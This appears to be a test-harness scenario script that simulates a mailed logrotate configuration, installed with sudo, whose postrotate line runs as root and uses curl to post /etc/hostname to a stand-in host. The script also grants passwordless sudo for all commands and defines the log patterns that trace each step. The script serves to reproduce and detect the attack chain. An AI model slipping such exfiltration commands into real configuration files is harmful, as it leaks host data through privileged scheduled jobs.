title="A mailed piece of configuration whose commands root's nightly job runs"
what="ops saves appliance.conf with mutt and installs it with sudo as /etc/logrotate.d/appliance. In the night root's job runs logrotate, whose postrotate lines are handed to sh: curl sends a file to 203.0.113.66."
host=mx1.example.org user=ops daemons="cron sshd" store=mbox shift_plan="arrive:1h save:1h night:10h later:10m"
setup() {
  private /var/lib/logrotate
  rm -f /etc/logrotate.d/*; echo line > /var/log/appliance.log
  printf '/var/log/appliance.log {\n  daily\n  rotate 3\n  missingok\n  postrotate\n    curl -s -m 4 -o /dev/null --data-binary @/etc/hostname http://drop.example.net/lr\n  endscript\n}\n' > "$base/out/appliance.conf"
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\n' > /home/ops/.muttrc; chown ops: /home/ops/.muttrc
  echo 'ops ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
}
act() {
  phase arrive
  small_talk 1
  mail_in --from support@example.com --to ops@example.org --subject "Your log is not rotated" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/appliance.conf:text/plain"
  wait_mail ops 1
  phase save
  ssh_as ops <<'L'
%saves mutt
cat appliance.conf
sudo install -m 644 appliance.conf /etc/logrotate.d/appliance
L
  phase night
  small_talk 2
  phase later
  printf 'HOME=/\n* * * * * root /usr/sbin/logrotate -f /etc/logrotate.conf\n' > /etc/cron.d/nightly-rotate
  sleep 66; rm /etc/cron.d/nightly-rotate
  small_talk 1
}
truth() {
  mail_step deliver 'to=<ops@example.org>.*status=sent' 'delivered'
  file_step save 'mutt open(at)?:write CREATE .*appliance.conf' 'saved'
  exec_step install 'install -m 644 appliance.conf /etc/logrotate.d/appliance' 'installed'
  exec_step rotate 'logrotate -f /etc/logrotate.conf' 'the nightly job'
  exec_step execute 'curl -s -m 4 -o /dev/null --data-binary @/etc/hostname' 'runs its lines'
  net_step beacon 'curl 203.0.113.66:80' 'it sends a file out'
}
